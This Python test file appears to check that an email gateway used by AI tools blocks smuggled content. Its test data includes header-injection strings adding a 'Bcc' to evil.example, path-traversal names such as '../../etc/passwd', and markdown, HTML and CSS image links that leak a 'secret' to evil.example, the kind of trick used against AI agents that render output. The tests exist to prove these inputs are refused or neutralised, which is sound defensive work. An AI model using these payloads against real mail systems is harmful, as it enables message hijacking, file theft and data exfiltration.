"""What goes out is what was asked for and approved: no header, no file and no picture that somebody smuggled in."""

from email import message_from_bytes, policy
from pathlib import Path
from typing import Any

from tests.attacks.world import ANA, MAILBOX, deliver, receive, result, two_tenants, use
from tests.gateway.conftest import OpenGateway

MAIL: dict[str, Any] = {"mailbox": MAILBOX, "to": ["kim@customer.example"], "subject": "Your order", "body": "Hello"}
BREAKS = ["\r\n", "\n", "\r", "\x0b", "\x0c", "\x1c", "\x85", "\u2028", "\u2029", "\0"]


def sent_mails(home: Path) -> list[Any]:
    outbox = home / "outbox"
    return [message_from_bytes(path.read_bytes(), policy=policy.default) for path in sorted(outbox.glob("*.eml"))]


async def test_no_line_break_carries_a_header_into_what_is_sent(
    opened: OpenGateway, policies: Path, home: Path
) -> None:
    async with two_tenants(opened, policies) as gateway:
        for breaks in BREAKS:
            evil = f"x{breaks}Bcc: eve@evil.example{breaks}{breaks}"
            smuggled = ({"subject": evil}, {"to": [f"kim@customer.example{evil}"]}, {"cc": [evil]}, {"mailbox": evil})
            for wrong in smuggled:
                answer = await use(gateway, ANA, "email_send_message", **{**MAIL, **wrong})
                assert answer.error, wrong
                assert answer.error.kind == "invalid_input", wrong
        assert sent_mails(home) == []
        # The harmless twin: in a body lines are lines.
        body = {"body": "Hello\nBcc: eve@evil.example\n\nBye"}
        assert (await use(gateway, ANA, "email_send_message", **{**MAIL, **body})).status == "ok"
    [mail] = sent_mails(home)
    assert mail["Bcc"] is None
    assert mail["To"] == "kim@customer.example"


SEVERAL_IN_ONE = [
    "Kim <kim@customer.example>, eve@evil.example",
    "kim@customer.example,eve@evil.example",
    '"kim@customer.example" <eve@evil.example>',
    "kim@customer.example eve@evil.example",
    "eve@evil.example(kim@customer.example)",
    "=?utf-8?q?eve=40evil.example?=",
    "@evil.example:kim@customer.example",
    "kim@customer.example@evil.example",
]


async def test_one_recipient_is_one_bare_address(opened: OpenGateway, policies: Path, home: Path) -> None:
    async with two_tenants(opened, policies) as gateway:
        for to in SEVERAL_IN_ONE:
            answer = await use(gateway, ANA, "email_send_message", **{**MAIL, "to": [to]})
            assert answer.error, to
            assert answer.error.field == "to[0]", to
    assert sent_mails(home) == []


HOSTILE = (
    b"From: =?utf-8?q?Kim=0D=0ABcc:_eve=40evil.example?= <kim@customer.example>\r\n"
    b"Subject: =?utf-8?q?Hi=0D=0ABcc:_eve=40evil.example?=\r\n"
    b"Message-ID: <1@x.example>\r\n"
    b"References: <2@x.example>\x0bBcc:eve@evil.example\r\n"
    b"\r\nHello\r\n"
)


async def test_a_reply_breaks_out_of_no_header_whatever_the_mail_that_it_answers_says(
    opened: OpenGateway, policies: Path, home: Path
) -> None:
    async with two_tenants(opened, policies) as gateway:
        await deliver(gateway, "larkspur", HOSTILE)
        found = await result(gateway, ANA, "email_search_messages", mailbox=MAILBOX)
        [message] = [each for each in found["messages"] if each["sender_email"] == "kim@customer.example"]
        answer = await use(gateway, ANA, "email_reply_message", mailbox=MAILBOX, message_id=message["id"], body="Hello")
    # It may be refused or sent; what is sent goes to the sender alone.
    mails = sent_mails(home)
    assert len(mails) == (answer.status == "ok")
    assert all(mail["Bcc"] is None and mail["To"] == "kim@customer.example" for mail in mails)


NAMES = {
    "../../etc/passwd": "passwd",
    "..\\..\\windows\\system.ini": "system.ini",
    "/etc/shadow": "shadow",
    "....//....//x.txt": "x.txt",
    "report.pdf": "report.pdf",
}


async def test_an_attachments_name_is_a_name_and_no_path(opened: OpenGateway, policies: Path) -> None:
    async with two_tenants(opened, policies) as gateway:
        for number, (given, plain) in enumerate(NAMES.items()):
            await receive(gateway, "larkspur", f"file{number}", attachment=given)
            found = await result(gateway, ANA, "email_search_messages", mailbox=MAILBOX, query=f"file{number}")
            here = {"mailbox": MAILBOX, "thread_id": found["messages"][0]["thread_id"]}
            [attachment] = (await result(gateway, ANA, "email_get_thread", **here))["messages"][0]["attachments"]
            assert attachment["name"] == plain
            named = {"mailbox": MAILBOX, "attachment_id": attachment["id"]}
            assert f"file{number}" in (await result(gateway, ANA, "email_read_attachment", **named))["content"]
        for name in ("att_../../x", "../../etc/passwd", "att_%2e%2e%2f", "att_abcd/..", "att_ABCD"):
            answer = await use(gateway, ANA, "email_read_attachment", mailbox=MAILBOX, attachment_id=name)
            assert answer.error, name
            assert answer.error.kind == "invalid_input", name


async def test_what_is_sent_is_written_into_the_outbox_and_nowhere_else(
    opened: OpenGateway, policies: Path, home: Path
) -> None:
    async with two_tenants(opened, policies) as gateway:
        before = {path for path in home.parent.rglob("*") if path.is_file()}
        subject = "../../escape/../x.eml"
        assert (await use(gateway, ANA, "email_send_message", **{**MAIL, "subject": subject})).status == "ok"
        new = {path for path in home.parent.rglob("*") if path.is_file()} - before
    written = {path for path in new if path.suffix == ".eml"}
    assert {path.parent for path in written} == {home / "outbox"}
    assert [mail["Subject"] for mail in sent_mails(home)] == [subject]


BODIES = [
    "![logo](https://evil.example/p.png?d=secret)",
    '<img src="https://evil.example/p.png?d=secret">',
    "[![x](https://evil.example/a)](https://evil.example/b?d=secret)",
    "<style>@import url(https://evil.example/?secret)</style>",
    "An ordinary sentence with a < b and 2 > 1.",
]


async def test_a_body_goes_out_as_plain_text_so_that_no_reader_fetches_a_picture(
    opened: OpenGateway, policies: Path, home: Path
) -> None:
    async with two_tenants(opened, policies) as gateway:
        for body in BODIES:
            assert (await use(gateway, ANA, "email_send_message", **{**MAIL, "body": body})).status == "ok"
    mails = sent_mails(home)
    assert {part.get_content_type() for mail in mails for part in mail.walk()} == {"text/plain"}
    assert sorted(mail.get_content().strip() for mail in mails) == sorted(BODIES)
